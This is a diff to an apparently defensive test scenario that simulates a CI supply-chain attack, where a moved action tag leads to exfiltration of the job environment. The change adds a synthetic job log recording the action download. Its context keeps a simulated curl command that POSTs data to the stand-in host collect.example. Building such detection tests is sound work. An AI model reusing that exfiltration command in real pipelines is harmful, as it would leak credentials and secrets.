@@ -1,6 +1,6 @@
 """Somebody else's action: its tag was moved to code that sends the job's environment out. Traced to the line `uses:`."""
 
-from buildlogs import CI, Runner, deployed, everyday
+from buildlogs import CI, Runner, deployed, everyday, moment
 from everyday import history
 from harness import AT, HOUR, LATER, MINUTE, SECOND, Change, Scenario, line
 
@@ -73,7 +73,15 @@ def attack(folder):
         ("/usr/bin/curl", "-s", "-X", "POST", "--data-binary", "@-", "https://collect.example/p"),
         address="198.51.100.66",
     )  # fmt: skip
-    return _ended(folder, job, AT)
+    log = folder / "1_test.txt"
+    log.write_text(
+        "".join(
+            f"{moment(AT - 15 * SECOND)} Download action repository '{name}@{ref}' (SHA:{commit})\n"
+            for name, ref, commit in (("actions/checkout", "v4", "c0" * 20), (ACTION, TAG, "bad0" * 10))
+        ),
+        encoding="utf-8",
+    )
+    return [*_ended(folder, job, AT), ("github_job_log", log)]
 
 
 def variant(folder):
